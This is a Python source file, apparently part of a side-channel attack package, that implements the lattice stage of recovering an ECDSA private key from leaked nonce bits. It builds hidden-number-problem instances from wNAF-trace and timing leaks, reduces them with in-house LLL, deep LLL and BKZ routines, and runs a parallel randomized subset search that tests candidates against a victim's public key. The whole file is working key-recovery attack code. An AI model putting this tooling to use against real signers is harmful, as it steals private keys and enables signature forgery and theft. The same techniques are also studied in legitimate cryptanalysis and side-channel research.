"""Hidden-number-problem lattices: recover an ECDSA key from nonce bits.

Every signature with partial nonce knowledge yields one inequality
|alpha*t_i - u_i|_n <= n/(2*W_i) in the unknown key alpha. Stacking d of
them gives a lattice in which the vector carrying alpha is unusually
short, so lattice reduction exposes it. This module builds the (t, u, W)
triples from both leak shapes the package produces (low-bit knowledge
from wNAF traces, high-zero-bit knowledge from timing filtering), builds
and reduces the lattices with an in-house LLL, and drives the randomized
subset search that makes the attack robust to corrupted samples.
"""

from __future__ import annotations

import json
import math
import multiprocessing
import operator
import random
import time
from dataclasses import asdict, dataclass
from fractions import Fraction
from typing import Callable, Iterator, List, Optional, Sequence, Tuple

import numpy as np

from . import ecgroup
from .sidechannel import LeakSample, TimedSignature


class HnpError(ValueError):
    """Base class for lattice-stage failures."""


class NonInvertibleS(HnpError):
    """A signature's s (or W*s) has no inverse modulo the order."""


class DependentRows(HnpError):
    """Basis rows are linearly dependent; reduction cannot proceed."""


@dataclass(frozen=True)
class HnpInstance:
    """One stacked hidden-number problem: |alpha*t_i - u_i|_n <= n/(2*w_i)."""

    n: int
    t: Tuple[int, ...]
    u: Tuple[int, ...]
    w: Tuple[int, ...]

    def __post_init__(self):
        if self.n < 3:
            raise ValueError("modulus too small")
        if not (len(self.t) == len(self.u) == len(self.w)) or not self.t:
            raise ValueError("t, u, w must be equal-length and non-empty")
        if any(w_i < 2 for w_i in self.w):
            raise ValueError("every w_i must be at least 2")

    @property
    def dim(self) -> int:
        return len(self.t)


def build_instance_lsb(samples: Sequence[LeakSample], n: int) -> HnpInstance:
    """Instance from low-bit knowledge k_i = value_i (mod 2^bits_i).

    Writing k = W*b + a with W = 2^bits and a = value, the signature
    equation s*k = h + alpha*r gives b = alpha*t - u_hat with
    t = r/(W*s) and u_hat = (a - h/s)/W, all modulo n; since 0 <= b < n/W,
    re-centering with u = u_hat + n/(2W) bounds |alpha*t - u| by n/(2W).
    """
    t_list: List[int] = []
    u_list: List[int] = []
    w_list: List[int] = []
    for sample in samples:
        big_w = 1 << sample.bits
        try:
            s_inv = pow(sample.s, -1, n)
            ws_inv = pow(big_w * sample.s, -1, n)
            w_inv = pow(big_w, -1, n)
        except ValueError:
            raise NonInvertibleS(
                f"signature s={sample.s:#x} not invertible mod n") from None
        t_i = sample.r * ws_inv % n
        u_hat = (sample.value - sample.h * s_inv) * w_inv % n
        t_list.append(t_i)
        u_list.append((u_hat + n // (2 * big_w)) % n)
        w_list.append(big_w)
    return HnpInstance(n, tuple(t_list), tuple(u_list), tuple(w_list))


def build_instance_msb(sigs: Sequence[TimedSignature], n: int,
                       big_w: int) -> HnpInstance:
    """Instance from high-bit knowledge 0 < k_i < n/W (fast signatures).

    Here t = r/s and u_hat = -h/s mod n, since alpha*t - u_hat = k; the
    nonce being small is itself the bias, so there is no known-value term
    to subtract, and W is one filter-wide constant.
    """
    if big_w < 2:
        raise ValueError("W must be at least 2")
    t_list: List[int] = []
    u_list: List[int] = []
    for sig in sigs:
        try:
            s_inv = pow(sig.s, -1, n)
        except ValueError:
            raise NonInvertibleS(
                f"signature s={sig.s:#x} not invertible mod n") from None
        t_list.append(sig.r * s_inv % n)
        u_list.append((-sig.h * s_inv + n // (2 * big_w)) % n)
    return HnpInstance(n, tuple(t_list), tuple(u_list),
                       (big_w,) * len(t_list))


def bound_holds(inst: HnpInstance, alpha: int, index: int) -> bool:
    """Does |alpha*t_i - u_i|_n <= n/(2*w_i) hold at this index?"""
    diff = (alpha * inst.t[index] - inst.u[index]) % inst.n
    centered = min(diff, inst.n - diff)
    return 2 * inst.w[index] * centered <= inst.n


# ---------------------------------------------------------------------------
# lattice construction
# ---------------------------------------------------------------------------


def build_lattice(inst: HnpInstance) -> Tuple[List[List[int]], List[int]]:
    """Basis and CVP target: rows 1..d are 2*W_i*n on the diagonal, the
    last row is (2*W_1*t_1, ..., 2*W_d*t_d, 1), and the target vector is
    (2*W_1*u_1, ..., 2*W_d*u_d, 0). The lattice point nearest the target
    is the alpha-multiple of the last row minus diagonal corrections."""
    d = inst.dim
    rows = [[0] * (d + 1) for _ in range(d + 1)]
    for i in range(d):
        rows[i][i] = 2 * inst.w[i] * inst.n
    rows[d][:d] = [2 * inst.w[i] * inst.t[i] for i in range(d)]
    rows[d][d] = 1
    target = [2 * inst.w[i] * inst.u[i] for i in range(d)] + [0]
    return rows, target


def embed_cvp_to_svp(basis: Sequence[Sequence[int]], target: Sequence[int],
                     tau: int) -> List[List[int]]:
    """Kannan embedding: widen by one column and append (target | tau).

    A vector close to ``target`` in the lattice shows up in the embedded
    lattice as the short vector (close - target | +-tau).
    """
    if tau < 1:
        raise ValueError("embedding weight tau must be positive")
    if any(len(row) != len(target) for row in basis):
        raise ValueError("target length must match basis width")
    out = [list(row) + [0] for row in basis]
    out.append(list(target) + [tau])
    return out


# ---------------------------------------------------------------------------
# LLL reduction (exact and float Gram-Schmidt engines)
# ---------------------------------------------------------------------------

_EXACT_DIM_LIMIT = 12
_VISIT_CAP = 2_000_000


def _dot(a: Sequence[int], b: Sequence[int]) -> int:
    return sum(map(operator.mul, a, b))


def lll_reduce(basis: Sequence[Sequence[int]], delta: float = 0.99, *,
               method: str = "auto", depth: int = 1) -> List[List[int]]:
    """Lenstra-Lenstra-Lovasz reduction of an integer basis.

    The basis stays exact; only the Gram-Schmidt bookkeeping differs by
    engine. "exact" tracks it in rationals (always right, slow beyond
    small dimensions), "float" in doubles with periodic recomputation
    (entries and their inner products must stay below about 2^1000,
    comfortably true here). "auto" picks exact up to dimension 12.
    ``depth`` > 1 turns the float engine into depth-restricted deep
    LLL, which finds noticeably shorter vectors in high dimensions for
    a modest slowdown; the exact engine ignores it. Output rows satisfy
    size reduction and the Lovasz condition for ``delta``. Raises
    DependentRows on a degenerate basis and RuntimeError if reduction
    fails to converge within the visit cap.
    """
    if not 0.25 < delta < 1:
        raise ValueError("delta must lie in (0.25, 1)")
    if depth < 1:
        raise ValueError("depth must be at least 1")
    rows = [list(map(int, row)) for row in basis]
    if not rows or any(len(row) != len(rows[0]) for row in rows):
        raise ValueError("basis must be a non-empty rectangular matrix")
    if len(rows) > len(rows[0]):
        raise DependentRows("more rows than columns")
    if method == "auto":
        method = "exact" if len(rows) <= _EXACT_DIM_LIMIT else "float"
    if method == "exact":
        return _lll_exact(rows, delta)
    if method == "float":
        return _lll_float(rows, delta, depth)
    raise ValueError(f"unknown method {method!r}")


def _lll_exact(rows: List[List[int]], delta: float) -> List[List[int]]:
    m = len(rows)
    delta_frac = Fraction(delta).limit_denominator(10 ** 6)

    def gso() -> Tuple[List[List[Fraction]], List[Fraction]]:
        mu = [[Fraction(0)] * m for _ in range(m)]
        rr = [Fraction(0)] * m
        inner = [[Fraction(0)] * m for _ in range(m)]
        for k in range(m):
            for j in range(k):
                val = Fraction(_dot(rows[k], rows[j]))
                for i in range(j):
                    val -= mu[j][i] * inner[k][i]
                inner[k][j] = val
                mu[k][j] = val / rr[j]
            norm = Fraction(_dot(rows[k], rows[k]))
            for i in range(k):
                norm -= mu[k][i] * inner[k][i]
            if norm == 0:
                raise DependentRows(f"row {k} is dependent on earlier rows")
            rr[k] = norm
        return mu, rr

    mu, rr = gso()
    visits = 0
    k = 1
    while k < m:
        visits += 1
        if visits > _VISIT_CAP:
            raise RuntimeError("reduction did not converge")
        for j in range(k - 1, -1, -1):
            q = (2 * mu[k][j].numerator + mu[k][j].denominator) // (
                2 * mu[k][j].denominator)
            if q:
                rows[k] = [a - q * b for a, b in zip(rows[k], rows[j])]
                for i in range(j):
                    mu[k][i] -= q * mu[j][i]
                mu[k][j] -= q
        if rr[k] >= (delta_frac - mu[k][k - 1] ** 2) * rr[k - 1]:
            k += 1
            continue
        rows[k - 1], rows[k] = rows[k], rows[k - 1]
        mu, rr = gso()
        k = max(k - 1, 1)
    return rows


def _gso_scaled(rows: List[List[int]]) -> Tuple[np.ndarray, np.ndarray]:
    """Gram-Schmidt coefficients in integer fixed point, returned as floats.

    The straight float64 recurrence dies on these lattices: a basis row can
    sit within distance 1 of the span of rows whose norms top 2^500, so the
    orthogonal part emerges from a cancellation hundreds of bits deep. The
    recurrence is therefore run on exact Gram integers scaled by 2^P, with
    P past the largest squared norm, making the absolute error of every
    subtraction far smaller than any nonzero residual. Only the final
    mu/rr values drop to float64, which holds their magnitudes fine.
    """
    m = len(rows)
    gram = [[0] * m for _ in range(m)]
    for k in range(m):
        for j in range(k + 1):
            gram[k][j] = _dot(rows[k], rows[j])
    max_bits = max(gram[k][k].bit_length() for k in range(m))
    prec = max_bits + 64
    half = 1 << (prec - 1)
    inner = [[0] * m for _ in range(m)]   # <b_k, b*_j> scaled by 2^prec
    mu_s = [[0] * m for _ in range(m)]    # mu scaled by 2^prec
    rr_s = [0] * m                        # ||b*_k||^2 scaled by 2^prec
    for k in range(m):
        for j in range(k):
            val = gram[k][j] << prec
            for i in range(j):
                val -= (inner[k][i] * mu_s[j][i] + half) >> prec
            inner[k][j] = val
            mu_s[k][j] = (val << prec) // rr_s[j]
        norm = gram[k][k] << prec
        for i in range(k):
            norm -= (mu_s[k][i] * inner[k][i] + half) >> prec
        if norm <= 0:
            raise DependentRows(f"row {k} is dependent on earlier rows")
        rr_s[k] = norm
    scale = 1 << prec  # int/int true division copes with huge operands
    mu = np.zeros((m, m))
    rr = np.empty(m)
    try:
        for k in range(m):
            rr[k] = rr_s[k] / scale
            for j in range(k):
                mu[k, j] = mu_s[k][j] / scale
    except OverflowError:
        raise RuntimeError(
            "Gram-Schmidt values exceed float64 range") from None
    return mu, rr


_ETA = 0.5000001
# a row whose mu entries exceed this is size-reduced only against a
# freshly exact frame. float64 keeps relative error ~2^-52 (amplified
# ~2^13 by patches between refreshes), so below 2^36 a rounded
# coefficient is off by at most 1, which the sweep absorbs; far above
# it the error reaches the coefficient's own scale and the subtraction
# would inflate the row instead of shrinking it. mu of magnitude 2^200
# is routine here, the initial frame spans 500 bits.
_TRUST_MU = 2.0 ** 36


def _size_reduce_row(rows: List[List[int]], mu: np.ndarray, k: int) -> None:
    """Make |mu[k, j]| <= 1/2 for all j < k by exact integer row steps."""
    while k:
        if float(np.max(np.abs(mu[k, :k]))) <= _ETA:
            return
        for j in range(k - 1, -1, -1):
            q = round(mu[k, j])
            if q:
                row_k, row_j = rows[k], rows[j]
                for idx, b in enumerate(row_j):
                    if b:
                        row_k[idx] -= q * b
                if j:
                    mu[k, :j] -= q * mu[j, :j]
                mu[k, j] -= q
        # a large q can push earlier entries back over 1/2; re-check


def _swap_patch(rows: List[List[int]], mu: np.ndarray, rr: np.ndarray,
                k: int) -> None:
    """Swap rows k-1, k and patch the Gram-Schmidt state in O(m).

    Products are ordered ratio-first so no intermediate outgrows
    float64's range even with squared norms near 2^1000.
    """
    m = len(rows)
    rows[k - 1], rows[k] = rows[k], rows[k - 1]
    mu_s = mu[k, k - 1]
    b_new = rr[k] + mu_s * mu_s * rr[k - 1]
    if b_new <= 0:
        raise DependentRows("precision collapsed during swap update")
    ratio = rr[k - 1] / b_new
    mu[k, k - 1] = mu_s * ratio
    rr[k] = rr[k] * ratio
    rr[k - 1] = b_new
    tmp = mu[k - 1, :k - 1].copy()
    mu[k - 1, :k - 1] = mu[k, :k - 1]
    mu[k, :k - 1] = tmp
    if k + 1 < m:
        t_col = mu[k + 1:, k].copy()
        mu[k + 1:, k] = mu[k + 1:, k - 1] - mu_s * t_col
        mu[k + 1:, k - 1] = t_col + mu[k, k - 1] * mu[k + 1:, k]


def _lll_float(rows: List[List[int]], delta: float,
               depth: int = 1) -> List[List[int]]:
    """Float64 loop over an exactly seeded Gram-Schmidt state.

    Every in-loop update (size-reduction of mu rows, the neighbor-swap
    patch) is built from products and same-scale sums of O(1) or
    positive quantities, so float64 tracks them stably; only the
    from-scratch orthogonalization needs the scaled integer path. The
    patched state still drifts over thousands of swaps, so termination
    is only believed, not trusted: the exit path recomputes the exact
    frame, re-pins size reduction, and resumes from the first index
    whose Lovasz condition the fresh frame rejects.

    ``depth`` > 1 enables deep insertions: a row may move up past its
    immediate neighbor when its projection is short enough, realized as
    a bubble of adjacent swaps so the O(m) patch still applies. Depth 1
    is plain LLL.
    """
    m = len(rows)
    mu, rr = _gso_scaled(rows)
    refresh_period = 64 * m
    swaps_since_refresh = 0
    visits = 0
    k = 1
    while True:
        while k < m:
            visits += 1
            if visits > _VISIT_CAP:
                raise RuntimeError("reduction did not converge")
            if float(np.max(np.abs(mu[k, :k]))) > _TRUST_MU:
                mu, rr = _gso_scaled(rows)
                swaps_since_refresh = 0
            _size_reduce_row(rows, mu, k)
            if depth <= 1:
                insert_at = k - 1 if rr[k] < (delta - mu[k, k - 1] ** 2) * rr[k - 1] else k
            else:
                # projected norms via a suffix sum (adds of positives only,
                # so each entry keeps full relative precision); insert at the
                # first position whose Gram-Schmidt norm the row would beat
                contrib = mu[k, :k] ** 2 * rr[:k]
                proj = np.cumsum(contrib[::-1])[::-1] + rr[k]
                beats = proj < delta * rr[:k]
                if depth < k:
                    window = np.zeros(k, dtype=bool)
                    window[:depth] = True
                    window[k - depth:] = True
                    beats &= window
                hits = np.nonzero(beats)[0]
                insert_at = int(hits[0]) if hits.size else k
            if insert_at == k:
                k += 1
                continue
            for pos in range(k, insert_at, -1):
                _swap_patch(rows, mu, rr, pos)
                swaps_since_refresh += 1
            if swaps_since_refresh >= refresh_period:
                mu, rr = _gso_scaled(rows)
                swaps_since_refresh = 0
            k = max(insert_at, 1)
        mu, rr = _gso_scaled(rows)
        for j in range(1, m):
            if float(np.max(np.abs(mu[j, :j]))) > _ETA:
                _size_reduce_row(rows, mu, j)
        sub = np.asarray(np.diagonal(mu, offset=-1))
        bad = np.nonzero(rr[1:] < (delta - sub ** 2) * rr[:-1])[0]
        if bad.size == 0:
            return rows
        k = max(int(bad[0]) + 1, 1)
        swaps_since_refresh = 0


# ---------------------------------------------------------------------------
# randomized subset attack
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class AttackConfig:
    """Knobs for the subset-and-reduce search.

    ``t`` is the usable sample count, ``lattice_dim`` the subset size per
    job, ``jobs`` the cap on subsets tried. Each job may re-randomize and
    re-reduce its lattice up to ``max_reductions`` times, bailing early
    after ``stall_limit`` consecutive re-reductions that surface no new
    candidates (None disables the bail-out). ``tau`` overrides the
    embedding weight, default n/(2*max W). ``insertion_depth`` > 1
    switches the reducer to depth-restricted deep LLL, worth it when
    the recovery margin is thin. ``block_size`` enables a stronger
    blockwise-enumeration stage (exact pruned shortest-vector search
    inside sliding projected blocks) between reductions, for instances
    too hard for plain reduction; it takes precedence over deep LLL.
    """

    t: int
    lattice_dim: int
    jobs: int
    big_w: Optional[int] = None
    max_reductions: int = 100
    delta: float = 0.99
    insertion_depth: int = 1
    block_size: Optional[int] = None
    tau: Optional[int] = None
    stall_limit: Optional[int] = 3

    def __post_init__(self):
        if self.t < 1 or not 1 <= self.lattice_dim <= self.t:
            raise ValueError("need 1 <= lattice_dim <= t")
        if self.jobs < 1 or self.max_reductions < 1:
            raise ValueError("jobs and max_reductions must be positive")
        if not 0.25 < self.delta < 1:
            raise ValueError("delta must lie in (0.25, 1)")
        if self.big_w is not None and self.big_w < 2:
            raise ValueError("W must be at least 2")
        if self.tau is not None and self.tau < 1:
            raise ValueError("tau must be positive")
        if self.insertion_depth < 1:
            raise ValueError("insertion_depth must be at least 1")
        if self.block_size is not None and self.block_size < 2:
            raise ValueError("block_size must be at least 2")


@dataclass(frozen=True)
class AttackReport:
    """Outcome of one full subset search."""

    recovered: Optional[int]
    jobs_used: int
    wall_time: float
    config: AttackConfig
    seed: int


def instance_to_json(inst: HnpInstance, *, include_basis: bool = False,
                     tau: Optional[int] = None) -> str:
    """Instance dump for offline solvers; big integers ride as hex.

    With ``include_basis`` the document also carries the lattice rows,
    the embedding target, and (when ``tau`` is given) the embedded
    basis, so an external reducer can pick up exactly where this
    module's would start.
    """
    doc = {
        "n": hex(inst.n),
        "t": [hex(v) for v in inst.t],
        "u": [hex(v) for v in inst.u],
        "w": [hex(v) for v in inst.w],
    }
    if include_basis:
        rows, target = build_lattice(inst)
        doc["basis"] = [[hex(v) for v in row] for row in rows]
        doc["target"] = [hex(v) for v in target]
        if tau is not None:
            embedded = embed_cvp_to_svp(rows, target, tau)
            doc["tau"] = hex(tau)
            doc["embedded"] = [[hex(v) for v in row] for row in embedded]
    return json.dumps(doc, separators=(",", ":"))


def instance_from_json(text: str) -> HnpInstance:
    doc = json.loads(text)
    return HnpInstance(
        n=int(doc["n"], 16),
        t=tuple(int(v, 16) for v in doc["t"]),
        u=tuple(int(v, 16) for v in doc["u"]),
        w=tuple(int(v, 16) for v in doc["w"]))


def report_to_json(report: AttackReport) -> str:
    """Attack outcome as JSON: recovered key (hex or null), jobs used,
    wall time, the full config, and the root seed."""
    doc = {
        "recovered": (None if report.recovered is None
                      else hex(report.recovered)),
        "jobs_used": report.jobs_used,
        "wall_time": report.wall_time,
        "config": asdict(report.config),
        "seed": report.seed,
    }
    return json.dumps(doc, sort_keys=True)


class PubkeyAcceptor:
    """Candidate test: does [alpha']G hit the victim's public point?

    A plain class (not a closure) so worker processes can unpickle it.
    """

    def __init__(self, curve: ecgroup.Curve, public: Tuple[int, int]):
        self.curve = curve
        self.public = public

    def __call__(self, candidate: int) -> bool:
        if not 1 <= candidate < self.curve.n:
            return False
        point = ecgroup.derive_public(self.curve, candidate)
        return (point.x, point.y) == self.public


@dataclass(frozen=True)
class SamplePool:
    """Usable samples from which each job draws a random subset.

    ``bias`` > 0 skews low-bit subset draws toward samples that leak
    more bits (weight 2^(bias*bits) per sample): the subset's total
    information rises, widening the margin the reducer needs, while
    each job still gets an independent random subset. High-order pools
    leak the same amount per sample, so bias does not apply there.
    """

    n: int
    dim: int
    lsb_samples: Optional[Tuple[LeakSample, ...]] = None
    msb_sigs: Optional[Tuple[TimedSignature, ...]] = None
    msb_w: Optional[int] = None
    bias: float = 0.0

    def __post_init__(self):
        if (self.lsb_samples is None) == (self.msb_sigs is None):
            raise ValueError("exactly one of lsb_samples/msb_sigs required")
        if self.msb_sigs is not None and self.msb_w is None:
            raise ValueError("msb pool needs its filter width W")
        if self.bias < 0:
            raise ValueError("bias must be non-negative")
        population = self.lsb_samples or self.msb_sigs
        if len(population) < self.dim:
            raise ValueError("pool smaller than the subset dimension")

    def instance(self, rng: random.Random) -> HnpInstance:
        if self.lsb_samples is not None:
            if self.bias:
                # weighted sampling without replacement via random keys
                def key(sample: LeakSample) -> float:
                    weight = 2.0 ** (self.bias * sample.bits)
                    return rng.random() ** (1.0 / weight)

                ranked = sorted(self.lsb_samples, key=key, reverse=True)
                subset = ranked[:self.dim]
            else:
                subset = rng.sample(self.lsb_samples, self.dim)
            return build_instance_lsb(subset, self.n)
        subset = rng.sample(self.msb_sigs, self.dim)
        return build_instance_msb(subset, self.n, self.msb_w)


def _plausible(inst: HnpInstance, candidate: int) -> bool:
    """Cheap screen before the EC multiplication: the first few bound
    checks must nearly all hold (one miss allowed for a corrupted row)."""
    checks = min(4, inst.dim)
    misses = sum(not bound_holds(inst, candidate, i) for i in range(checks))
    return misses <= (1 if checks == 4 else 0)


_PAIR_ROWS = 24
_TRIPLE_ROWS = 12


def _norm2(row: Sequence[int]) -> int:
    return sum(x * x for x in row)


def _candidate_values(rows: Sequence[Sequence[int]], alphas: Sequence[int],
                      tau: int) -> Iterator[int]:
    """Alpha coordinates of the rows and of short-row combinations.

    The embedded target vector often appears near the reduction
    threshold as a sum or difference of reduced rows rather than as a
    row of its own, most commonly paired with a row still carrying the
    embedding weight tau. Each combination costs one modular addition to
    test, so the scan sweeps every row against the tau-carrying rows,
    plus pairs and signed triples of the shortest rows."""
    for value in alphas:
        yield value
    carriers = [i for i, row in enumerate(rows) if abs(row[-1]) == tau]
    for j in carriers:
        for i in range(len(rows)):
            if i != j:
                yield alphas[i] + alphas[j]
                yield alphas[i] - alphas[j]
    order = sorted(range(len(rows)), key=lambda i: _norm2(rows[i]))
    pair = order[:_PAIR_ROWS]
    for i in range(len(pair)):
        for j in range(i + 1, len(pair)):
            a, b = alphas[pair[i]], alphas[pair[j]]
            yield a + b
            yield a - b
    triple = order[:_TRIPLE_ROWS]
    for i in range(len(triple)):
        for j in range(i + 1, len(triple)):
            for k in range(j + 1, len(triple)):
                a, b, c = alphas[triple[i]], alphas[triple[j]], alphas[triple[k]]
                yield a + b + c
                yield a + b - c
                yield a - b + c
                yield a - b - c


def solve_instance(inst: HnpInstance, config: AttackConfig,
                   rng: random.Random,
                   accept: Callable[[int], bool]) -> Optional[int]:
    """Reduce one subset's lattice and test the candidate multipliers.

    The embedded basis is reduced; the alpha coordinates of every row
    and of pair/triple combinations of the shortest rows (both signs)
    become candidates, and survivors of the cheap residual screen go to
    ``accept``. The first pass is plain reduction; when
    ``block_size`` (blockwise enumeration) or ``insertion_depth`` (deep
    insertions) is set, the second pass strengthens the already reduced
    basis, which is far cheaper than starting strong from scratch.
    Later passes shuffle the rows and repeat, up to the configured
    attempt and stall limits.
    """
    n = inst.n
    tau = config.tau if config.tau is not None else max(1, n // (2 * max(inst.w)))
    basis, target = build_lattice(inst)
    current = embed_cvp_to_svp(basis, target, tau)
    alpha_col = inst.dim
    tried = set()
    stall = 0
    strengthen = bool(config.block_size) or config.insertion_depth > 1
    for attempt in range(config.max_reductions):
        if strengthen:
            # even attempts shuffle and reduce plain, odd ones continue
            # the freshly reduced basis with the stronger stage
            shuffle = attempt >= 2 and attempt % 2 == 0
            boost = attempt % 2 == 1
        else:
            shuffle = attempt >= 1
            boost = False
        if shuffle:
            current = [row[:] for row in current]
            rng.shuffle(current)
        try:
            if boost and config.block_size:
                _bkz_pass(current, config.block_size, config.delta)
            elif boost:
                current = lll_reduce(current, delta=config.delta,
                                     depth=config.insertion_depth)
            else:
                current = lll_reduce(current, delta=config.delta)
        except (DependentRows, RuntimeError, OverflowError):
            return None
        fresh = False
        alphas = [row[alpha_col] % n for row in current]
        for value in _candidate_values(current, alphas, tau):
            for candidate in (value % n, (n - value) % n):
                if candidate == 0 or candidate in tried:
                    continue
                tried.add(candidate)
                fresh = True
                if _plausible(inst, candidate) and accept(candidate):
                    return candidate
        if config.stall_limit is not None:
            stall = 0 if fresh else stall + 1
            if stall >= config.stall_limit:
                return None
    return None


_ENUM_NODE_CAP = 30_000


def _xgcd(a: int, b: int) -> Tuple[int, int, int]:
    """Return (g, p, q) with p*a + q*b = g = gcd(a, b)."""
    old_r, r = a, b
    old_p, p = 1, 0
    old_q, q = 0, 1
    while r:
        quot = old_r // r
        old_r, r = r, old_r - quot * r
        old_p, p = p, old_p - quot * p
        old_q, q = q, old_q - quot * q
    return old_r, old_p, old_q


def _zigzag(center: float, count: int, toward: int) -> int:
    """count-th integer nearest ``center``: round, then alternate sides
    starting toward the center's fractional side. Distances are
    nondecreasing in ``count``, so a failed candidate ends the level."""
    base = round(center)
    if count == 0:
        return base
    if count % 2:
        return base + toward * ((count + 1) // 2)
    return base - toward * (count // 2)


def _enum_shortest(mu: List[List[float]], rr: List[float],
                   radius2: float) -> Optional[List[int]]:
    """Schnorr-Euchner enumeration of the projected block's shortest vector.

    ``mu``/``rr`` describe the block's own Gram-Schmidt state (mu[j][i]
    for i < j). Linear pruning keeps the tree small and a node cap
    bounds worst-case work, abandoning the block rather than stalling
    the tour. Returns the coefficient vector of a vector strictly
    shorter than ``radius2``, or None if none was found in budget.
    """
    b = len(rr)
    slack = 1.2
    bound = [radius2 * min(1.0, slack * (b - i) / b) for i in range(b)]
    x = [0] * b
    center = [0.0] * b
    count = [0] * b
    toward = [1] * b
    dist = [0.0] * b
    best: Optional[List[int]] = None
    i = b - 1
    nodes = 0
    while True:
        nodes += 1
        if nodes > _ENUM_NODE_CAP:
            return best
        diff = x[i] - center[i]
        part = dist[i] + diff * diff * rr[i]
        if part < bound[i]:
            if i == 0:
                if any(x):
                    radius2 = part
                    bound = [radius2 * min(1.0, slack * (b - j) / b)
                             for j in range(b)]
                    best = x[:]
                count[0] += 1
                x[0] = _zigzag(center[0], count[0], toward[0])
            else:
                i -= 1
                dist[i] = part
                c = 0.0
                for j in range(i + 1, b):
                    if x[j]:
                        c -= x[j] * mu[j][i]
                center[i] = c
                count[i] = 0
                toward[i] = 1 if c >= round(c) else -1
                x[i] = round(c)
        else:
            i += 1
            if i == b:
                return best
            # the top level is mirror-symmetric, walk one side only
            count[i] += 2 if i == b - 1 and count[i] else 1
            x[i] = _zigzag(center[i], count[i], toward[i])


def _insert_block_vector(rows: List[List[int]], k: int, x: List[int]) -> None:
    """Realize the combination x of rows[k:k+len(x)] as the new row k.

    The block is rewritten by a chain of 2x2 unimodular transforms that
    fold every coefficient into one row, so the basis stays a basis (no
    dependent row to purge afterward).
    """
    idxs = [i for i, coeff in enumerate(x) if coeff]
    lead = idxs[0]
    acc = x[lead]
    for other in idxs[1:]:
        g, p, q = _xgcd(acc, x[other])
        fa, fb = acc // g, x[other] // g
        ra, rb = rows[k + lead], rows[k + other]
        rows[k + lead] = [fa * va + fb * vb for va, vb in zip(ra, rb)]
        rows[k + other] = [p * vb - q * va for va, vb in zip(ra, rb)]
        acc = g
    row = rows.pop(k + lead)
    rows.insert(k, row)


def _bkz_pass(rows: List[List[int]], beta: int, delta: float) -> bool:
    """Blockwise strengthening: exact (pruned) shortest-vector search in
    sliding projected blocks, with found vectors inserted unimodularly.

    Within one tour, blocks advance by a full block so the Gram-Schmidt
    data captured at tour start stays exact for every later block even
    after earlier insertions. Successive tours rotate the block offset
    (by a step coprime to the block size) so the seams get covered; the
    pass ends once a whole offset cycle brings no insertion, or at the
    tour budget. Returns True if any insertion happened.
    """
    m = len(rows)
    step = next(s for s in (5, 3, 7, 11, 1) if math.gcd(s, beta) == 1)
    improved = False
    idle = 0
    cycle = (beta + step - 1) // step + 1
    for tour in range(2 * beta):
        mu_f, rr_f = _gso_scaled(rows)
        inserted = False
        k = (tour * step) % beta
        while k + 2 <= m:
            stop = min(k + beta, m)
            width = stop - k
            mu_blk = [[float(mu_f[k + j, k + i]) for i in range(j)]
                      for j in range(width)]
            rr_blk = [float(rr_f[k + i]) for i in range(width)]
            x = _enum_shortest(mu_blk, rr_blk, delta * rr_blk[0])
            trivial = x is None or not any(x) or (
                abs(x[0]) == 1 and not any(x[1:]))
            if not trivial:
                _insert_block_vector(rows, k, x)
                inserted = True
                improved = True
            k = stop
        if inserted:
            idle = 0
            _lll_float(rows, delta)
        else:
            idle += 1
            if idle >= cycle:
                break
    return improved


def bkz_reduce(basis: Sequence[Sequence[int]], block_size: int,
               delta: float = 0.99) -> List[List[int]]:
    """LLL followed by blockwise-enumeration tours.

    Finds noticeably shorter vectors than plain reduction in high
    dimensions; the price is the per-block enumeration, kept bounded by
    pruning and a node cap. The sweet spot for ``block_size`` is 20-32;
    beyond that the enumeration trees outgrow the cap and blocks start
    getting abandoned.
    """
    if block_size < 2:
        raise ValueError("block_size must be at least 2")
    rows = lll_reduce(basis, delta, method="float")
    _bkz_pass(rows, block_size, delta)
    return rows


def subset_success_prob(t: int, errors: int,
                        dim: int) -> Tuple[Fraction, float]:
    """Probability that a uniform dim-of-t subset dodges all bad samples,
    and the implied expected number of jobs until a clean one."""
    if errors < 0 or not 1 <= dim <= t:
        raise ValueError("need 0 <= errors and 1 <= dim <= t")
    good = t - errors
    if good < dim:
        return Fraction(0), math.inf
    p_hat = Fraction(math.comb(good, dim), math.comb(t, dim))
    return p_hat, float(1 / p_hat)


def _attack_job(args) -> Optional[int]:
    pool, config, accept, job_seed = args
    rng = random.Random(job_seed)
    return solve_instance(pool.instance(rng), config, rng, accept)


def run_attack(pool: SamplePool, config: AttackConfig,
               accept: Callable[[int], bool], *,
               parallelism: int = 1, seed: int = 0) -> AttackReport:
    """Try up to ``config.jobs`` random subsets until one yields the key.

    Job seeds derive from ``seed``, so a run is reproducible for fixed
    parallelism-independent inputs (the set of jobs is fixed; only their
    completion order varies). With parallelism > 1, jobs fan out over
    forked workers and the pool tears down at the first success.
    """
    root = random.Random(seed)
    job_args = [(pool, config, accept, root.getrandbits(64))
                for _ in range(config.jobs)]
    started = time.perf_counter()
    recovered: Optional[int] = None
    jobs_used = 0
    if parallelism <= 1:
        for args in job_args:
            jobs_used += 1
            recovered = _attack_job(args)
            if recovered is not None:
                break
    else:
        ctx = multiprocessing.get_context("fork")
        with ctx.Pool(parallelism) as workers:
            for result in workers.imap_unordered(_attack_job, job_args,
                                                 chunksize=1):
                jobs_used += 1
                if result is not None:
                    recovered = result
                    workers.terminate()
                    break
    return AttackReport(recovered, jobs_used, time.perf_counter() - started,
                        config, seed)
